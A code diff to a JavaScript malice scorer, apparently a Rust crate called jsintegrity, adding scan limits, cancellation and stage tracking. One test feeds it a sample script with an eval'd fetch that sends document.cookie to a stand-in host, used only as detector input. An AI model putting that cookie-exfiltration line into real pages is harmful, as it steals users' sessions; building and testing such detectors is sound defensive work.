@@ -4,9 +4,11 @@ use std::fmt;
 use std::sync::Arc;
 
 use crate::analysis::{self, Analysis, Tables};
+use crate::bounds::Bounds;
+use crate::limits::{self, Limits};
 use crate::model::Model;
 use crate::signals;
-use crate::{Error, Score, ScriptDigests, ScriptReport, Severity, Signatures};
+use crate::{Error, Score, ScriptDigests, ScriptReport, Severity, Signatures, Stage, Stop, source};
 
 /// The embedded model.
 #[cfg(feature = "bundled-model")]
@@ -46,6 +48,9 @@ struct Inner {
     model: Arc<Model>,
     tables: Arc<Tables>,
     signatures: Signatures,
+    limits: Limits,
+    /// That of the model, with the name of the limits where these are not the default ones.
+    id: String,
 }
 
 impl Scorer {
@@ -68,7 +73,41 @@ impl Scorer {
     /// features than this version computes.
     pub fn from_bytes(model: &[u8]) -> Result<Self, Error> {
         let (model, tables) = (Model::from_bytes(model)?, Arc::new(Tables::new()));
-        Ok(Self { inner: Arc::new(Inner { model, tables, signatures: Signatures::bundled() }) })
+        Ok(Self::of(model, tables, Signatures::bundled(), limits::DEFAULT))
+    }
+
+    fn of(model: Arc<Model>, tables: Arc<Tables>, signatures: Signatures, limits: Limits) -> Self {
+        let id = match limits.name() {
+            Some(name) => format!("{}-{name}", model.id()),
+            None => model.id().to_owned(),
+        };
+        Self { inner: Arc::new(Inner { model, tables, signatures, limits, id }) }
+    }
+
+    /// The same scorer with other limits.
+    ///
+    /// ```
+    /// # #[cfg(feature = "bundled-model")] {
+    /// use jsintegrity::{Limit, Limits, Scorer};
+    ///
+    /// let mut limits = Limits::default();
+    /// limits.bytes = 1 << 20;
+    /// let scorer = Scorer::bundled()?.with_limits(limits);
+    /// assert_eq!(scorer.limits().bytes, 1 << 20);
+    /// assert_eq!(scorer.score(&[b' '; (1 << 20) + 1])?.limits, [Limit::Bytes]);
+    /// # }
+    /// # Ok::<(), jsintegrity::Error>(())
+    /// ```
+    #[must_use]
+    pub fn with_limits(&self, limits: Limits) -> Self {
+        let (model, tables) = (Arc::clone(&self.inner.model), Arc::clone(&self.inner.tables));
+        Self::of(model, tables, self.inner.signatures.clone(), limits)
+    }
+
+    /// What is looked at of a script, and done for it.
+    #[must_use]
+    pub fn limits(&self) -> &Limits {
+        &self.inner.limits
     }
 
     /// The same scorer with other signatures in place of the [bundled](Signatures::bundled) ones.
@@ -87,7 +126,7 @@ impl Scorer {
     #[must_use]
     pub fn with_signatures(&self, signatures: Signatures) -> Self {
         let (model, tables) = (Arc::clone(&self.inner.model), Arc::clone(&self.inner.tables));
-        Self { inner: Arc::new(Inner { model, tables, signatures }) }
+        Self::of(model, tables, signatures, self.inner.limits.clone())
     }
 
     /// The signatures that scripts are compared with.
@@ -102,10 +141,11 @@ impl Scorer {
         self.inner.signatures.epoch()
     }
 
-    /// Identifies the model in answers: the first 16 hexadecimal digits of the SHA-256 of its bytes.
+    /// Identifies the model in answers: the first 16 hexadecimal digits of the SHA-256 of its bytes. With other limits than the
+    /// default ones a dash follows, and 16 digits that tell these limits from others.
     #[must_use]
     pub fn model_id(&self) -> &str {
-        self.inner.model.id()
+        &self.inner.id
     }
 
     /// Scores one script, whatever its bytes: UTF-8, UTF-16 or Latin-1, JavaScript or not.
@@ -118,12 +158,43 @@ impl Scorer {
     /// [`ErrorKind::Inference`](crate::ErrorKind::Inference) when the model cannot be run: a fault of the model, never
     /// of the script. The bundled model has no such fault.
     pub fn score(&self, script: &[u8]) -> Result<ScriptReport, Error> {
-        let Inner { model, tables, signatures } = &*self.inner;
-        let text = analysis::decode(script);
-        let analysis = Analysis::of(&text, tables);
+        self.score_until(script, &Stop::never())
+    }
+
+    /// The same, given up when the caller's [`Stop`] says so.
+    ///
+    /// ```
+    /// # #[cfg(feature = "bundled-model")] {
+    /// use std::time::{Duration, Instant};
+    /// use jsintegrity::{ErrorKind, Scorer, Stop};
+    ///
+    /// let (scorer, now) = (Scorer::bundled()?, Instant::now());
+    /// assert!(scorer.score_until(b"go()", &Stop::at(now + Duration::from_secs(600))).is_ok());
+    /// let error = scorer.score_until(b"go()", &Stop::at(now)).unwrap_err();
+    /// assert_eq!(error.kind(), ErrorKind::OutOfTime);
+    /// # }
+    /// # Ok::<(), jsintegrity::Error>(())
+    /// ```
+    ///
+    /// # Errors
+    ///
+    /// [`ErrorKind::Cancelled`](crate::ErrorKind::Cancelled) or [`ErrorKind::OutOfTime`](crate::ErrorKind::OutOfTime) when it was
+    /// given up; [`Error::stage`] says how far it came. Then nothing is known about the script: treat it as unknown. Others as for
+    /// [`score`](Self::score).
+    pub fn score_until(&self, script: &[u8], stop: &Stop) -> Result<ScriptReport, Error> {
+        let Inner { model, tables, signatures, limits, id } = &*self.inner;
+        let bounds = Bounds::new(limits, stop);
+        bounds.enter(Stage::Decoding);
+        bounds.ended()?;
+        let text = source::decode(analysis::looked_at(script, limits));
+        let analysis = Analysis::within(&text, tables, Some(&bounds));
         let hits = signatures.hits(&analysis.stream, &analysis.uses);
+        bounds.enter(Stage::Weighing);
         let features = analysis.features();
+        bounds.ended()?;
         let outcome = model.outcome(&features);
+        bounds.enter(Stage::Reporting);
+        bounds.ended()?;
         let scores = model.scores(&outcome);
         let scores = scores.below(signals::ceilings(&analysis.held)).below(signatures.ceilings(&hits));
         let mut findings = analysis.findings(tables, signatures, &hits);
@@ -132,17 +203,19 @@ impl Scorer {
             let window = features.windows[outcome.worst].items.clone();
             findings.insert(0, signals::learned(&analysis.stream, window, scores.most_likely_class()));
         }
-        Ok(ScriptReport {
+        let report = ScriptReport {
             scores,
             parse: analysis.syntax.status,
-            limits: analysis.limits(script),
-            model: model.id().to_owned(),
+            limits: analysis.limits(script, limits),
+            model: id.clone(),
             signatures: signatures.epoch().to_owned(),
             findings,
             urls: signals::urls(&analysis.stream),
             uses: analysis.used_addresses(),
             digests: ScriptDigests::new(script, analysis.structural()),
-        })
+        };
+        bounds.ended()?;
+        Ok(report)
     }
 }
 
@@ -155,6 +228,43 @@ impl fmt::Debug for Scorer {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[cfg(feature = "bundled-model")]
+    #[test]
+    fn a_score_can_be_given_up_at_every_place() {
+        use Stage::{Decoding, Evaluating, Following, Parsing, Reading, Reporting, Weighing};
+        use std::collections::BTreeMap;
+
+        let scorer = Scorer::bundled().unwrap();
+        // Something to evaluate, to decode, to follow and to find, and enough of it for many turns.
+        let script =
+            "var k=0;for(var i=0;i<9000;i++){k+=i%7}eval(`fetch('//c.example/?'+document.cookie);go(1)`);"
+                .to_owned()
+                + &"f(function(a){b.src=a.value+c[1];});".repeat(400);
+        let mut came_to: BTreeMap<Stage, usize> = BTreeMap::new();
+        let mut last = Decoding;
+        let asked =
+            (1..100_000).find(|asks| match scorer.score_until(script.as_bytes(), &Stop::after(*asks)) {
+                Ok(report) => {
+                    assert_eq!(report, scorer.score(script.as_bytes()).unwrap());
+                    true
+                }
+                Err(error) => {
+                    let stage = error.stage().expect("a stage");
+                    assert_eq!(error.kind(), crate::ErrorKind::Cancelled);
+                    assert!(stage >= last, "{stage} after {last}");
+                    last = stage;
+                    *came_to.entry(stage).or_default() += 1;
+                    false
+                }
+            });
+        assert!(asked.is_some_and(|asked| asked > 40), "{asked:?}");
+        // Between the stages, and within those that are loops.
+        assert!(came_to.keys().eq(&[Decoding, Evaluating, Reading, Parsing, Following, Weighing, Reporting]));
+        for stage in [Evaluating, Reading, Following, Weighing, Reporting] {
+            assert!(came_to[&stage] > 1, "{came_to:?}");
+        }
+    }
 
     #[test]
     fn a_scorer_is_shared_between_threads() {
